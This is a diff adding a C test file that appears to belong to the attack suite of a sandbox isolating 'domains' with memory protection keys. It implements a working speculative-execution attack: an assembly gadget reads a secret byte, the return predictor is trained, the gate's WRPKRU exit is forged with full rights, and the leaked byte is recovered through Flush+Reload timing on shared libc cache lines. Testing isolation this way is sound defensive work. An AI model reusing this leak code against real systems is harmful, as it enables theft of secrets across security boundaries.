@@ -1,0 +1,162 @@
+/*
+ * Reads what a processor reads ahead of a check that is going to fail (row 31 of the threats). One domain is the thief,
+ * which is torn down for it; another is the watcher. A byte is passed on by which line of libc's text is in a cache:
+ * domains share those pages.
+ */
+#include "worker/test/attack/attack.h"
+#include <link.h>
+#include <stdio.h>
+#include <string.h>
+#include <x86intrin.h>
+
+#define LINES     256
+#define PAGE      4096
+#define LINE_AT   0xb80 /* in its page: not where code runs all the time */
+#define SCATTER   167   /* visits the lines in an order that no prefetcher knows */
+#define TRAININGS 12
+#define PAUSE     100 /* branches that leave the same history before each try */
+
+extern const char attack_gadget[] __attribute__((visibility("hidden")));
+
+static const volatile uint8_t *lines;
+static uint8_t decoy[PAGE] __attribute__((aligned(PAGE)));
+
+/* Touches the line that the byte at RSI names, and goes back. Nothing but RSI, RDI and R8 must be what it was. */
+__asm__(".text\n"
+        ".balign 64\n"
+        "attack_gadget:\n\t"
+        "movzbl (%rsi), %eax\n\t"
+        "shlq $12, %rax\n\t"
+        "movzbl (%rdi,%rax), %eax\n\t"
+        "jmp *%r8\n");
+
+static int find(struct dl_phdr_info *info, size_t size, void *unused)
+{
+    (void)size;
+    (void)unused;
+    if (!strstr(info->dlpi_name, "/libc.so"))
+        return 0;
+    for (int i = 0; i < info->dlpi_phnum; i++)
+        if (info->dlpi_phdr[i].p_type == PT_LOAD && info->dlpi_phdr[i].p_flags & PF_X)
+            lines = (const uint8_t *)info->dlpi_addr + info->dlpi_phdr[i].p_vaddr + LINE_AT;
+    return 1;
+}
+
+static const volatile uint8_t *line(int i)
+{
+    return lines + PAGE * (long)((i * SCATTER) % LINES);
+}
+
+static void flush_lines(void)
+{
+    dl_iterate_phdr(find, NULL);
+    for (int i = 0; i < LINES; i++)
+        (void)*line(i);
+    for (int i = 0; i < LINES; i++)
+        _mm_clflush((const void *)(uintptr_t)line(i));
+    _mm_mfence();
+}
+
+static const char *try_flush(struct attacker *a)
+{
+    (void)a;
+    flush_lines();
+    return "flushed";
+}
+
+/* The ticks that each line takes, in hex. */
+static const char *try_look(struct attacker *a)
+{
+    static char text[8 * LINES];
+    uint32_t took[LINES];
+    unsigned unused;
+    int length = 0;
+
+    dl_iterate_phdr(find, NULL);
+    for (int i = 0; i < LINES; i++) {
+        const volatile uint8_t *at = line(i);
+        uint64_t start = __rdtscp(&unused);
+
+        (void)*at;
+        took[(i * SCATTER) % LINES] = (uint32_t)(__rdtscp(&unused) - start);
+    }
+    for (int i = 0; i < LINES; i++)
+        length += snprintf(text + length, sizeof(text) - (size_t)length, "%x ", took[i] & 0xffff);
+    a->append(a->context, text, (size_t)length);
+    return NULL;
+}
+
+static uint64_t page(void)
+{
+    uint64_t at;
+
+    __asm__ volatile("rdgsbase %0" : "=r"(at));
+    return at;
+}
+
+static uint32_t own_rights(void)
+{
+    uint32_t low, high;
+
+    __asm__ volatile("rdpkru" : "=a"(low), "=d"(high) : "c"(0));
+    return low;
+}
+
+/* To a WRPKRU of the gate, as if it were on its way out to the gadget: by RCX from the stack, or by RET. */
+static void leave(uint64_t code, uint32_t rights, const uint8_t *from)
+{
+    static uint64_t stack[64], saved;
+
+    stack[32 + 6] = (uint64_t)attack_gadget;
+    __asm__ volatile("pushq %%rbx; pushq %%rbp; pushq %%r12; pushq %%r13; pushq %%r14; pushq %%r15\n\t"
+                     "movq %%rsp, %[saved]\n\t"
+                     ".rept 32\n\t" /* fills the predictor of RET */
+                     "call 2f\n\t"
+                     "movzbl (%%rsi), %%eax; shlq $12, %%rax; movzbl (%%rdi,%%rax), %%eax\n\t"
+                     "3: pause; jmp 3b\n\t"
+                     "2: addq $8, %%rsp\n\t"
+                     ".endr\n\t"
+                     "leaq 1f(%%rip), %%r8\n\t"
+                     "movq %[stack], %%rsp\n\t"
+                     "movl %[rights], %%eax; movq %[code], %%r11; xorl %%ecx, %%ecx; xorl %%edx, %%edx\n\t"
+                     "jmp *%%r11\n"
+                     "1: movq %[saved], %%rsp\n\t"
+                     "popq %%r15; popq %%r14; popq %%r13; popq %%r12; popq %%rbp; popq %%rbx"
+                     : [saved] "+m"(saved)
+                     : [stack] "r"(stack + 32), [rights] "r"(rights), [code] "r"(code), "S"(from), "D"(lines)
+                     : "rax", "rcx", "rdx", "r8", "r9", "r10", "r11", "memory", "cc");
+}
+
+/* Goes out with its own rights until the processor is sure of it, then with all; without a branch in between that could
+ * tell the two apart. What the check compares with has to come from memory. */
+static void steal(uint64_t code, const uint8_t *secret, int trainings)
+{
+    const uint64_t at = page(), own = own_rights();
+
+    flush_lines();
+    for (volatile int i = 0;; i++) {
+        uint64_t now = -(uint64_t)(i == trainings);
+
+        _mm_clflush((const void *)at);
+        _mm_mfence();
+        for (volatile int k = 0; k < PAUSE; k++)
+            ;
+        leave(code, (uint32_t)(own & ~now), (const uint8_t *)(((uint64_t)decoy & ~now) | ((uint64_t)secret & now)));
+    }
+}
+
+/* Arguments: where the WRPKRU of the call's way out is, counted from the gate; not 0: only what a decoy leaves. */
+static const char *try_exit(struct attacker *a)
+{
+    steal(attack_gate + a->arg[1], a->arg[2] ? decoy : (const uint8_t *)a->arg[0], TRAININGS);
+    return "went on";
+}
+
+/* The same where a system call with the domain's rights ends, which none but the monitor may train. */
+static const char *try_ret(struct attacker *a)
+{
+    steal(attack_gate + a->arg[1], a->arg[2] ? decoy : (const uint8_t *)a->arg[0], 0);
+    return "went on";
+}
+
+const struct attack attacks[] = {{"flush", try_flush}, {"look", try_look}, {"exit", try_exit}, {"ret", try_ret}, {0}};
